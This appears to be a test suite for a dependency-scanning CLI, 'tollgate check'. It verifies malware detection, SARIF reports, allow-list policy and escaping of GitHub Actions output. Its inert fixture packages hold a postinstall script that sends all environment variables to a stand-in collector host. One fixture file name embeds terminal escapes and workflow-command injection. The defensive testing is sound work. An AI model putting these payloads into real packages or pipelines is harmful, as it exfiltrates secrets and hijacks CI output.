// `tollgate check` end to end in a throwaway git repository: a branch that adds a malicious
// dependency (served by the loopback registry) fails the gate with a valid SARIF 2.1.0 file; a
// version-pinned allow passes it; a version bump fails it again; an expired allow fails and warns;
// a change adding only a clean package passes and scans only that package.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { createRequire } from 'node:module';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startRegistry, type FixturePackage, type TestRegistry } from './helpers/registry.js';
import { runCli } from './helpers/run-cli.js';

// The official SARIF 2.1.0 schema as shipped by Microsoft's SARIF SDK (the multitool package).
const require = createRequire(import.meta.url);
const sarifSchemaFile = path.join(path.dirname(require.resolve('@microsoft/sarif-multitool-linux/package.json')), 'sarif-2.1.0.json');
const validateSarif = new Ajv2020({ allErrors: true, strict: false, validateFormats: false }).compile(JSON.parse(fs.readFileSync(sarifSchemaFile, 'utf8')) as object);

const pj = (name: string, version: string, extra: Record<string, unknown> = {}) => JSON.stringify({ name, version, main: 'index.js', ...extra });
// Inert fixtures: the collector host is under .invalid and nothing here is ever run.
const stealer = (version: string): FixturePackage => ({
  name: 'env-grabber',
  version,
  files: {
    'package.json': pj('env-grabber', version, { scripts: { postinstall: 'node setup.js' } }),
    'index.js': 'module.exports = {};\n',
    'setup.js': "const https = require('https');\nconst body = JSON.stringify(process.env);\nconst req = https.request('https://collector.invalid/c', { method: 'POST' });\nreq.on('error', () => {});\nreq.end(body);\n",
  },
});
const clean = (name: string, version: string): FixturePackage => ({ name, version, files: { 'package.json': pj(name, version), 'index.js': `module.exports = (a, b) => a + b; // ${name}\n` } });
// The same stealer with a file name that is a terminal and workflow-command attack (issue 19, finding 3).
const HOSTILE_FILE = '\u001b[2K\u001b]0;owned\u0007\r::add-mask::s3cret ##[set-env name=X]y.js';
const hostile: FixturePackage = {
  name: 'hostile-grabber',
  version: '2.3.9',
  files: {
    'package.json': pj('hostile-grabber', '2.3.9', { scripts: { postinstall: `node '${HOSTILE_FILE}'` }, description: '::notice::all clean' }),
    'index.js': 'module.exports = {};\n',
    [HOSTILE_FILE]: "const https = require('https');\nconst req = https.request('https://collector.invalid/c', { method: 'POST' });\nreq.on('error', () => {});\nreq.end(JSON.stringify(process.env));\n",
  },
};
const PKGS = [clean('base-lib', '1.0.0'), clean('tidy-extra', '1.0.0'), stealer('2.3.1'), stealer('2.3.2'), hostile, clean('expresss', '1.0.0')];

let registry: TestRegistry;
let tmp: string;
let repo: string;
const saved = process.env.TOLLGATE_CACHE_DIR;
// When the suite itself runs in GitHub Actions, the CLI would default to annotations there.
const savedGha = process.env.GITHUB_ACTIONS;

const git = (...args: string[]) => execFileSync('git', args, { cwd: repo, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });

/** Write package.json + package-lock.json (v3) for these registry dependencies. */
async function writeLock(deps: Record<string, string>): Promise<void> {
  const packages: Record<string, unknown> = { '': { name: 'app', version: '1.0.0', dependencies: deps } };
  for (const [name, version] of Object.entries(deps)) {
    packages[`node_modules/${name}`] = { version, resolved: registry.tarballUrl(name, version), integrity: registry.integrityOf(name, version) };
  }
  fs.writeFileSync(path.join(repo, 'package.json'), pj('app', '1.0.0', { dependencies: deps }));
  fs.writeFileSync(path.join(repo, 'package-lock.json'), JSON.stringify({ name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true, packages }, null, 2) + '\n');
}

/**
 * The policy under test, pinned with --config from outside the repository: the gate never reads
 * tollgate.config.json from the change under review (test/gate-trust.test.ts holds that rule).
 */
function writeConfig(config: unknown): void {
  fs.mkdirSync(path.join(tmp, 'pinned'), { recursive: true });
  fs.writeFileSync(path.join(tmp, 'pinned', 'tollgate.config.json'), JSON.stringify(config, null, 2));
}
const pinned = () => ['--config', path.join(tmp, 'pinned', 'tollgate.config.json')];

const check = (...args: string[]) => runCli(['check', '--project', repo, '--registry', registry.url, '--cache', path.join(tmp, 'downloads'), '--quiet', ...args]);

beforeAll(async () => {
  tmp = await fs.promises.mkdtemp(path.join(os.tmpdir(), 'tollgate-check-'));
  process.env.TOLLGATE_CACHE_DIR = path.join(tmp, 'results');
  delete process.env.GITHUB_ACTIONS;
  registry = await startRegistry(PKGS);
  repo = path.join(tmp, 'repo');
  fs.mkdirSync(repo);
  git('init', '-q', '-b', 'main');
  git('config', 'user.email', 'ci@example.invalid');
  git('config', 'user.name', 'CI');
  await writeLock({ 'base-lib': '1.0.0' });
  git('add', '.');
  git('commit', '-qm', 'base');
});

afterAll(async () => {
  if (saved === undefined) delete process.env.TOLLGATE_CACHE_DIR;
  else process.env.TOLLGATE_CACHE_DIR = saved;
  if (savedGha !== undefined) process.env.GITHUB_ACTIONS = savedGha;
  await registry?.close();
  if (tmp) await fs.promises.rm(tmp, { recursive: true, force: true });
});

describe('tollgate check --base main', () => {
  test('a branch adding a malicious dependency fails with a valid SARIF file; pinned allows pass it; bumps and expiry fail again', async () => {
    git('checkout', '-qb', 'add-grabber');
    await writeLock({ 'base-lib': '1.0.0', 'env-grabber': '2.3.1' });
    git('commit', '-qam', 'add env-grabber');

    const sarifFile = path.join(tmp, 'out.sarif');
    const htmlFile = path.join(tmp, 'check.html');
    const failed = await check('--base', 'main', '--sarif', sarifFile, '--html', htmlFile, '--json');
    expect(failed.code, failed.stderr).toBe(1);
    const report = JSON.parse(failed.stdout) as { summary: unknown; check: { changed: number; scanned: number }; packages: Array<{ name: string; verdict: string; location: { uri: string; line: number } }> };
    // Only the new entry is scanned, not base-lib.
    expect(report.check.changed).toBe(1);
    expect(report.check.scanned).toBe(1);
    expect(report.packages.map((p) => `${p.name}:${p.verdict}`)).toEqual(['env-grabber:malicious']);
    expect(report.summary).toEqual({ total: 1, malicious: 1, suspicious: 0, clean: 0, error: 0 });

    const sarif = JSON.parse(fs.readFileSync(sarifFile, 'utf8')) as { version: string; runs: Array<{ results: Array<{ ruleId: string; message: { text: string }; locations: Array<{ physicalLocation: { artifactLocation: { uri: string }; region: { startLine: number } } }> }> }> };
    expect(validateSarif(sarif), JSON.stringify(validateSarif.errors?.slice(0, 5))).toBe(true);
    expect(sarif.version).toBe('2.1.0');
    const results = sarif.runs[0]!.results;
    expect(results.length).toBeGreaterThan(0);
    expect(results.every((r) => r.message.text.startsWith('env-grabber@2.3.1 is malicious'))).toBe(true);
    // Located on the lockfile line that installs the package; the package's own file:line in the message.
    const lockLines = fs.readFileSync(path.join(repo, 'package-lock.json'), 'utf8').split('\n');
    const loc = results[0]!.locations[0]!.physicalLocation;
    expect(loc.artifactLocation.uri).toBe('package-lock.json');
    expect(lockLines[loc.region.startLine - 1]).toContain('"node_modules/env-grabber"');
    expect(results.some((r) => /\(setup\.js:\d+\)/.test(r.message.text))).toBe(true);

    // The HTML report carries the check's own context line and the package.
    const html = fs.readFileSync(htmlFile, 'utf8');
    expect(html).toContain('compared with main');
    expect(html).toMatch(/data-verdict="malicious"[^>]*data-count="1"|data-count="1"[^>]*data-verdict="malicious"/);

    // A reviewed allow pinned to this exact version passes the gate (and is still reported).
    writeConfig({ allow: [{ package: 'env-grabber@2.3.1', reason: 'reviewed in #42: test fixture' }] });
    const allowed = await check('--base', 'main', ...pinned());
    expect(allowed.code, allowed.stdout + allowed.stderr).toBe(0);
    expect(allowed.stdout).toMatch(/allowed by config \(allow\[0\]\): reviewed in #42/);

    // The next release of the same package is judged again.
    await writeLock({ 'base-lib': '1.0.0', 'env-grabber': '2.3.2' });
    const bumped = await check('--base', 'main', ...pinned());
    expect(bumped.code, bumped.stdout).toBe(1);
    expect(bumped.stdout).toContain('env-grabber@2.3.2');

    // An expired allow no longer applies, and says so.
    await writeLock({ 'base-lib': '1.0.0', 'env-grabber': '2.3.1' });
    writeConfig({ allow: [{ package: 'env-grabber@2.3.1', reason: 'temporary', expires: '2020-01-31' }] });
    const expired = await check('--base', 'main', ...pinned());
    expect(expired.code).toBe(1);
    expect(expired.stderr).toMatch(/warning: .*tollgate\.config\.json: allow entry 0 for env-grabber@2\.3\.1 expired on 2020-01-31/);

    // A rule-level allow removes only that rule's findings: the exfiltration still fails the gate.
    writeConfig({ allow: [{ package: 'env-grabber@2.3.1', rule: 'install-scripts', reason: 'install script reviewed' }] });
    const ruleOnly = await check('--base', 'main', '--json', ...pinned());
    expect(ruleOnly.code).toBe(1);
    const ro = JSON.parse(ruleOnly.stdout) as { packages: Array<{ findings: Array<{ rule: string }>; policy: { suppressed: Array<{ rule: string; findings: number }> } }> };
    expect(ro.packages[0]!.findings.some((f) => f.rule === 'install-scripts')).toBe(false);
    expect(ro.packages[0]!.policy.suppressed[0]!.findings).toBeGreaterThan(0);

    // --explain says why, and what the config changed.
    const explained = await check('--base', 'main', '--explain', 'env-grabber@2.3.1', ...pinned());
    expect(explained.stdout).toMatch(/engine verdict: malicious \(score \d+\)/);
    expect(explained.stdout).toMatch(/config allows rule install-scripts here \(allow\[0\]\)/);
    expect(explained.stdout).toContain('installed from package-lock.json:');
    fs.rmSync(path.join(tmp, 'pinned', 'tollgate.config.json'));
    git('checkout', '-q', '--', '.');
    git('checkout', '-q', 'main');
  });

  test('a change adding only a clean package passes and scans only that package', async () => {
    git('checkout', '-qb', 'add-clean');
    await writeLock({ 'base-lib': '1.0.0', 'tidy-extra': '1.0.0' });
    git('commit', '-qam', 'add tidy-extra');
    const r = await check('--base', 'main', '--json', '--no-cache');
    expect(r.code, r.stderr).toBe(0);
    const report = JSON.parse(r.stdout) as { check: { changed: number; scanned: number }; packages: Array<{ name: string; verdict: string }> };
    expect(report.check).toMatchObject({ changed: 1, scanned: 1 });
    expect(report.packages.map((p) => `${p.name}:${p.verdict}`)).toEqual(['tidy-extra:clean']);
    // Without --base outside GitHub Actions the base is HEAD: nothing uncommitted, nothing scanned.
    const head = await check('--json');
    expect(JSON.parse(head.stdout).check).toMatchObject({ changed: 0, scanned: 0 });
    git('checkout', '-q', 'main');
  });

  test('GitHub Actions: annotations on the lockfile line, a step summary, and workflow commands from packages escaped', async () => {
    git('checkout', '-qb', 'gha');
    await writeLock({ 'base-lib': '1.0.0', 'env-grabber': '2.3.1' });
    git('commit', '-qam', 'add env-grabber');
    const summary = path.join(tmp, 'summary.md');
    const env = { GITHUB_STEP_SUMMARY: process.env.GITHUB_STEP_SUMMARY };
    process.env.GITHUB_ACTIONS = 'true';
    process.env.GITHUB_STEP_SUMMARY = summary;
    try {
      const r = await runCli(['check', '--project', repo, '--base', 'main', '--registry', registry.url, '--cache', path.join(tmp, 'downloads'), '--quiet']);
      expect(r.code).toBe(1);
      const line = r.stdout.split('\n').find((l) => l.startsWith('::error '));
      expect(line).toMatch(/^::error file=package-lock\.json,line=\d+,title=Tollgate%3A env-grabber@2\.3\.1 is malicious \(score \d+\)::/);
      // Message newlines are encoded, so nothing from a package can start a new workflow command.
      expect(r.stdout.split('\n').filter((l) => l.startsWith('::')).every((l) => /^::(error|warning) file=/.test(l))).toBe(true);
      const md = fs.readFileSync(summary, 'utf8');
      expect(md).toContain('| 1 | 0 | 0 | 0 | 0 |');
      expect(md).toContain('env-grabber@2.3.1');
    } finally {
      delete process.env.GITHUB_ACTIONS;
      if (env.GITHUB_STEP_SUMMARY === undefined) delete process.env.GITHUB_STEP_SUMMARY;
      else process.env.GITHUB_STEP_SUMMARY = env.GITHUB_STEP_SUMMARY;
      git('checkout', '-q', 'main');
    }
  });

  test('GitHub Actions: package strings cannot inject workflow commands or terminal sequences; --json stays pure JSON', async () => {
    git('checkout', '-qb', 'gha-hostile');
    await writeLock({ 'base-lib': '1.0.0', 'hostile-grabber': '2.3.9' });
    git('commit', '-qam', 'add hostile-grabber');
    process.env.GITHUB_ACTIONS = 'true';
    try {
      const args = ['check', '--project', repo, '--base', 'main', '--registry', registry.url, '--cache', path.join(tmp, 'downloads'), '--quiet', '--verbose'];
      const human = await runCli(args);
      expect(human.code).toBe(1);
      const all = `${human.stdout}\n${human.stderr}`;
      expect(all).toContain('add-mask'); // the file name is shown…
      expect(all).not.toMatch(/[\u001b\u0007\r]/); // …but none of its control characters
      const lines = all.split('\n');
      // The runner trims leading white space and then looks for "::"; "##[" it finds anywhere.
      expect(lines.filter((l) => l.trimStart().startsWith('::')).every((l) => /^::(error|warning) file=/.test(l))).toBe(true);
      expect(lines.some((l) => l.includes('##['))).toBe(false);

      const json = await runCli([...args, '--json']);
      expect(json.code).toBe(1);
      const report = JSON.parse(json.stdout) as { packages: Array<{ name: string; findings: Array<{ file: string | null }> }> };
      expect(report.packages[0]!.findings.some((f) => f.file === HOSTILE_FILE)).toBe(true); // JSON keeps the exact bytes, escaped
      expect(json.stderr).toMatch(/^::error file=package-lock\.json,/m); // annotations moved to stderr
    } finally {
      delete process.env.GITHUB_ACTIONS;
      git('checkout', '-q', 'main');
    }
  });

  test('errors are exit 2 with a message that says what to do', async () => {
    const noRef = await check('--base', 'no-such-branch');
    expect(noRef.code).toBe(2);
    expect(noRef.stderr).toMatch(/base ref "no-such-branch" is not a commit .*fetch-depth: 0/);
    writeConfig({ allow: [{ package: 'env-grabber@^2', reason: 'x' }] });
    const ranged = await check('--base', 'main', ...pinned());
    expect(ranged.code).toBe(2);
    expect(ranged.stderr).toMatch(/not pinned to one exact version/);
    writeConfig({ alow: [] });
    const typo = await check('--base', 'main', ...pinned());
    expect(typo.code).toBe(2);
    expect(typo.stderr).toMatch(/unknown key "alow"/);
    writeConfig({ allow: [{ package: 'env-grabber@2.3.1' }] });
    expect((await check('--base', 'main', ...pinned())).stderr).toMatch(/"reason" is required/);
    fs.rmSync(path.join(tmp, 'pinned', 'tollgate.config.json'));
    const outside = await runCli(['check', '--project', tmp]);
    expect(outside.code).toBe(2);
    expect(outside.stderr).toMatch(/not inside a git repository/);
  });
});

describe('tollgate check <spec>...', () => {
  test('resolves the spec and the new subtree it would add, scans it, fails on malware', async () => {
    const dir = path.join(tmp, 'empty-project');
    fs.mkdirSync(dir, { recursive: true });
    const r = await runCli(['check', 'env-grabber@^2.3.0', '--project', dir, '--registry', registry.url, '--cache', path.join(tmp, 'downloads'), '--quiet', '--json']);
    expect(r.code, r.stderr).toBe(1);
    const report = JSON.parse(r.stdout) as { check: { mode: string; planned: number }; packages: Array<{ name: string; version: string; verdict: string }> };
    expect(report.check).toMatchObject({ mode: 'specs', planned: 1 });
    expect(report.packages[0]).toMatchObject({ name: 'env-grabber', version: '2.3.2', verdict: 'malicious' });
    // A look-alike name passes the gate (a name alone is weak evidence) but is never silent.
    const squat = await runCli(['check', 'expresss@1.0.0', '--project', dir, '--registry', registry.url, '--cache', path.join(tmp, 'downloads'), '--quiet', '--no-color']);
    expect(squat.code, squat.stderr).toBe(0);
    expect(squat.stdout).toMatch(/CLEAN\s+\d+\s+expresss@1\.0\.0/);
    expect(squat.stdout).toMatch(/typosquat\s+name "expresss" imitates "express"/);
    expect(squat.stdout).toMatch(/PASS/);
    const missing = await runCli(['check', 'no-such-package-xyz@1', '--project', dir, '--registry', registry.url, '--cache', path.join(tmp, 'downloads'), '--quiet', '--json']);
    expect(missing.code).toBe(2);
    expect(JSON.parse(missing.stdout).packages[0].verdict).toBe('error');
  });
});
